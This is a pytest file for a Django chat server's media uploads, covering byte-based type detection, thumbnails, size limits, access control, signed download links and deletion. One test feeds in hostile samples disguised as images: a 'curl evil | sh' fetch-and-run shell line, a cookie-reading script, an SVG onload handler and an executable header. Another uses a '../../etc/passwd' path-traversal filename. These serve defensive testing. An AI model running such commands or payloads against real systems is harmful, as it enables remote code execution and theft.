"""Media messages: classification from the bytes, storage, downloads, links, limits."""

import io
import json
import time
import wave
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from rest_framework.test import APIClient

from chats.models import Attachment, Membership, Message
from chatserver.models import OutboxEvent
from tests.support.factories import make_user

pytestmark = pytest.mark.django_db

MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" + b"\x00" * 64
WEBM = (
    b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    b"\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02" + b"\x00" * 64
)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def stored_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def png(width=64, height=48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 60)).save(out, format="PNG")
    return out.getvalue()


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x00" * 800)
    return out.getvalue()


@pytest.fixture
def pair():
    alice, bob = make_user(), make_user()
    cid = alice.client.post("/chats/", {"members": [bob.id], "name": "media"}, format="json").json()["id"]
    return cid, alice, bob


def upload(user, cid, data: bytes, name="f.bin", content_type="application/octet-stream", **fields):
    return user.client.post(
        f"/chats/{cid}/messages/",
        {"file": SimpleUploadedFile(name, data, content_type=content_type), **fields},
        format="multipart",
    )


# --- classification ---------------------------------------------------------------------


def test_an_image_gets_its_size_a_thumbnail_and_an_event_with_metadata_only(pair, media_root):
    cid, alice, bob = pair

    response = upload(alice, cid, png(), name="holiday.PNG", content_type="text/plain", content="look")

    assert response.status_code == 201, response.content
    body = response.json()
    assert body["type"] == "image"
    assert body["content"] == "look"
    attachment = body["attachment"]
    assert attachment["mime"] == "image/png"
    assert (attachment["width"], attachment["height"]) == (64, 48)
    assert attachment["name"] == "holiday.PNG"
    assert attachment["size"] == len(png())
    assert attachment["url"] == f"/chats/{cid}/messages/{body['id']}/attachment/"
    assert attachment["thumbnail_url"] == f"/chats/{cid}/messages/{body['id']}/attachment/thumbnail/"
    assert len(stored_files(media_root)) == 2  # the file and its thumbnail
    event = OutboxEvent.objects.exclude(payload="").order_by("id").last()
    assert json.loads(event.payload)["data"] == body
    assert len(event.payload) < 2000  # metadata, never the bytes


@pytest.mark.parametrize(
    "data, type_, mime",
    [
        (wav(), "audio", "audio/wav"),
        (MP4, "video", "video/mp4"),
        (WEBM, "video", "video/webm"),
        (b"%PDF-1.4\n%...", "file", "application/octet-stream"),
    ],
)
def test_audio_video_and_files_are_typed_by_their_bytes(pair, data, type_, mime):
    cid, alice, bob = pair

    response = upload(alice, cid, data, name="whatever.png", content_type="image/png")

    assert response.status_code == 201, response.content
    assert response.json()["type"] == type_
    assert response.json()["attachment"]["mime"] == mime
    assert response.json()["attachment"]["thumbnail_url"] is None


@pytest.mark.parametrize(
    "data",
    [
        b"#!/bin/sh\ncurl evil | sh\n",
        b"<html><script>alert(document.cookie)</script></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"MZ\x90\x00" + b"\x00" * 200,
        png()[:60],  # a PNG header on a broken body
    ],
)
def test_scripts_and_executables_disguised_as_images_are_plain_files_downloaded_inert(pair, data):
    cid, alice, bob = pair

    response = upload(alice, cid, data, name="cute.png", content_type="image/png")
    download = bob.client.get(response.json()["attachment"]["url"])

    assert response.status_code == 201
    assert response.json()["type"] == "file"
    assert response.json()["attachment"]["mime"] == "application/octet-stream"
    assert download.status_code == 200
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]
    assert b"".join(download.streaming_content) == data


def test_client_file_names_cannot_reach_paths(pair, media_root):
    cid, alice, bob = pair

    response = upload(alice, cid, b"data", name="../../etc/passwd\x00.png")

    assert response.status_code == 201
    assert response.json()["attachment"]["name"] == "passwd.png"
    [stored] = stored_files(media_root)
    assert stored.is_relative_to(media_root / "attachments" / str(cid))
    assert "passwd" not in stored.name


# --- limits and failures ------------------------------------------------------------------


def test_an_oversized_upload_is_413_and_stores_nothing(pair, settings, media_root):
    cid, alice, bob = pair
    settings.ATTACHMENT_MAX_SIZE = 1000

    response = upload(alice, cid, b"x" * 100_000)

    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert Message.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_file_over_the_limit_within_a_small_declared_body_is_caught_while_reading(pair, settings, media_root):
    # the declared length is under the early check (limit + 64 KiB), the file is not
    cid, alice, bob = pair
    settings.ATTACHMENT_MAX_SIZE = 1000

    response = upload(alice, cid, b"y" * 5000)

    assert response.status_code == 413
    assert Message.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_refused_upload_leaves_no_file(pair, media_root):
    cid, alice, bob = pair
    Membership.objects.filter(chat_id=cid, user_id=bob.id).update(role="restricted")

    response = upload(bob, cid, png())

    assert response.status_code == 403
    assert stored_files(media_root) == []
    assert Attachment.objects.count() == 0


def test_a_retried_upload_with_the_same_client_id_stores_one_file(pair, media_root):
    cid, alice, bob = pair

    first = upload(alice, cid, png(), client_id="up-1")
    again = upload(alice, cid, png(), client_id="up-1")

    assert (first.status_code, again.status_code) == (201, 200)
    assert again.json() == first.json()
    assert len(stored_files(media_root)) == 2  # one file and one thumbnail


def test_an_empty_file_or_a_bare_caption_field_is_400(pair):
    cid, alice, bob = pair

    assert upload(alice, cid, b"").status_code == 400
    assert alice.client.post(f"/chats/{cid}/messages/", {"content": ""}, format="multipart").status_code == 400


# --- downloads ----------------------------------------------------------------------------


def test_members_download_with_their_token_others_get_404_or_401(pair):
    cid, alice, bob = pair
    body = upload(alice, cid, png()).json()
    url, thumb = body["attachment"]["url"], body["attachment"]["thumbnail_url"]

    mine = bob.client.get(url)
    thumbnail = bob.client.get(thumb)
    stranger = make_user().client.get(url)
    anonymous = APIClient().get(url)

    assert mine.status_code == 200
    assert mine["Content-Type"] == "image/png"
    assert mine["Content-Disposition"].startswith("inline;")
    assert b"".join(mine.streaming_content) == png()
    assert thumbnail.status_code == 200 and thumbnail["Content-Type"] == "image/webp"
    assert stranger.status_code == 404
    assert anonymous.status_code == 401


def test_signed_links_work_without_a_token_until_they_expire(pair, monkeypatch):
    cid, alice, bob = pair
    body = upload(alice, cid, png()).json()
    link = bob.client.get(f"{body['attachment']['url']}link/").json()

    fresh = APIClient().get(link["url"])
    tampered = APIClient().get(link["url"][:-3] + "xx/")
    later = time.time() + 3600
    monkeypatch.setattr("django.core.signing.time.time", lambda: later)
    expired = APIClient().get(link["url"])

    assert fresh.status_code == 200
    assert b"".join(fresh.streaming_content) == png()
    assert link["thumbnail_url"].startswith("/media/")
    assert tampered.status_code == 404
    assert expired.status_code == 403
    assert expired.json()["error"]["code"] == "link_expired"
    assert make_user().client.get(f"{body['attachment']['url']}link/").status_code == 404


def test_deleting_the_message_removes_its_files(pair, media_root, django_capture_on_commit_callbacks):
    cid, alice, bob = pair
    body = upload(alice, cid, png()).json()
    link = bob.client.get(f"{body['attachment']['url']}link/").json()

    with django_capture_on_commit_callbacks(execute=True):
        response = alice.client.patch(f"/chats/{cid}/messages/{body['id']}/", {"deleted": True}, format="json")

    assert response.status_code == 200
    assert response.json()["attachment"] is None
    assert stored_files(media_root) == []
    assert bob.client.get(body["attachment"]["url"]).status_code == 404
    assert APIClient().get(link["url"]).status_code == 404


def test_two_file_parts_are_refused_naming_the_field_and_nothing_is_stored(pair):
    cid, alice, _ = pair
    body = {"file": [SimpleUploadedFile("a.png", png(), content_type="image/png"),
                     SimpleUploadedFile("b.png", png(), content_type="image/png")]}

    response = alice.client.post(f"/chats/{cid}/messages/", body, format="multipart")

    assert response.status_code == 400
    assert response.json()["error"]["fields"]["file"] == ["Send one file per message (2 were sent)."]
    assert Message.objects.filter(chat_id=cid).count() == 0
    assert Attachment.objects.count() == 0
